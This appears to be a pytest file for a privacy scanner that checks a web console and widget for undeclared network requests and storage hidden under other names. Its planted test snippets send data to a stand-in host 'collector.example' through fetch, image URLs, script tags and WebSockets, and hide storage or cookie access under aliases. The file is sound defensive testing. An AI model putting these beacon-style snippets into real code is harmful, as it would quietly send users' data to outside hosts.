"""Nothing stays in a browser under another name, and no browser is sent elsewhere. P.1, 4.1.5."""

from __future__ import annotations

import ast

import pytest

from tests.privacy.browsers import asked, browsers, built, scripts

SVG = "http://www.w3.org/2000/svg"

ASKED: dict[str, set[str]] = {
    "console/public/icons/mark.svg": {SVG},
    "console/src/api.ts": {"fetch"},
    "console/src/composer/upload.ts": {"XMLHttpRequest"},
    "console/src/exceptions/ask.tsx": {"https://"},  # how an address begins
    "console/src/inboxes/draft.ts": {"https://${…}"},  # whatever site an admin writes down
    "console/src/inboxes/origins-field.tsx": {"https://shop.example"},  # an example of one
    "console/src/router.ts": {"http://console"},  # to read a path by; never asked
    "console/src/service-worker.ts": {"fetch"},
    "console/src/third-parties/facts.tsx": {"https://"},
    "live/src/connection.ts": {"WebSocket"},
    "widget/src/api.ts": {"fetch"},
    "widget/src/loader/bubble.ts": {SVG},
    "widget/src/service-worker.ts": {"fetch"},
    "widget/src/upload.ts": {"XMLHttpRequest"},
}
"""Which file of ours asks a server, or says an address in full."""

ERROR = "typeerror-cannot-read-properties-of-undefined-reading-challenge"
IN_LIBRARIES = {
    "http://www.w3.org/1998/Math/MathML",
    "http://www.w3.org/1999/xhtml",
    "https://simplewebauthn.dev/docs/packages/browser#" + ERROR,
}
"""Addresses that come with preact and simplewebauthn: names, and a page for developers."""


def test_whom_a_browser_may_ask_is_known_by_its_file() -> None:
    assert asked(scripts()) == ASKED


def test_what_is_built_asks_nobody_else() -> None:
    """Where nothing is built, nothing is served either."""
    ours = {said for known in ASKED.values() for said in known}
    found = {name: said - ours - IN_LIBRARIES for name, said in asked(built()).items()}
    assert {name: said for name, said in found.items() if said} == {}


@pytest.mark.parametrize(
    ("script", "found"),
    [
        ('fetch("https://collector.example/x")', {"fetch", "https://collector.example/x"}),
        ("const { fetch: ask } = window; ask(where);", {"fetch"}),
        ("const ask = fetch;", {"fetch"}),
        ('fetch("//collector.example/x")', {"fetch", "//collector.example/x"}),
        ("image.src = `//collector.example/${name}`;", {"//collector.example/${…}"}),
        ('<script src="//collector.example/x.js">', {"//collector.example/x.js"}),
        ("a { background: url(//collector.example/x) }", {"//collector.example/x"}),
        ('new WebSocket("wss://collector.example")', {"WebSocket", "wss://collector.example"}),
        ("navigator.sendBeacon(where, what)", {"sendBeacon"}),
        ("new RTCPeerConnection({ iceServers })", {"RTCPeerConnection"}),
        ("new EventSource(where)", {"EventSource"}),
        ("// fetch(it) from https://collector.example\nlet a = 1; // fetch(it)", set()),
        ("/** See https://collector.example */\nlet a = 1;", set()),
        ('let a = "/*"; fetch(it); let b = "*/";', {"fetch"}),
        ('const a = "all // ours"; fetch(it);', {"fetch"}),
    ],
)
def test_a_planted_address_is_found(script: str, found: set[str]) -> None:
    assert asked([("planted.ts", script)]).get("planted.ts", set()) == found


@pytest.mark.parametrize(
    ("script", "found"),
    [
        ("const s = localStorage;", "localStorage by another name"),
        ("const {localStorage: s} = window;", "localStorage by another name"),
        ('window["localStorage"].setItem("name", name)', "localStorage by another name"),
        ("keep(sessionStorage)", "sessionStorage by another name"),
        ('const all = indexedDB["open"]("all")', "indexedDB"),
        ("const store = caches;", "caches by another name"),
        ("await navigator.storage.getDirectory()", "navigator.storage"),
        ('window["local" + kind]', "window[ hides what it is"),
        ("const { cookie } = document;", "{ cookie } = document hides what it is"),
        ('document["cookie"] = name', "document[ hides what it is"),
    ],
)
def test_what_is_kept_under_another_name_is_found(script: str, found: str) -> None:
    live = browsers([("planted.ts", script)], [])
    assert found in live["planted.ts"]


def test_a_comment_keeps_nothing() -> None:
    script = "/* localStorage */\n// caches\nconst a = 1; // indexedDB\n"
    assert browsers([("planted.ts", script)], []) == {"cookie": {}}


@pytest.mark.parametrize(
    "planted",
    [
        'response.set_cookie("ad", token)',
        'call.set_cookie(Biscuit("ad", token, 9))',
        'response.headers["Set-Cookie"] = f"ad={token}"',
        'headers.append((b"set-cookie", b"ad=1"))',
        "page = '<script>document.cookie = name</script>'",
        "from http.cookies import SimpleCookie",
    ],
)
def test_a_cookie_that_is_set_in_another_way_is_found(planted: str) -> None:
    (found,) = browsers([], [("planted", ast.parse(planted))])["cookie"]
    assert found.startswith("planted: ")
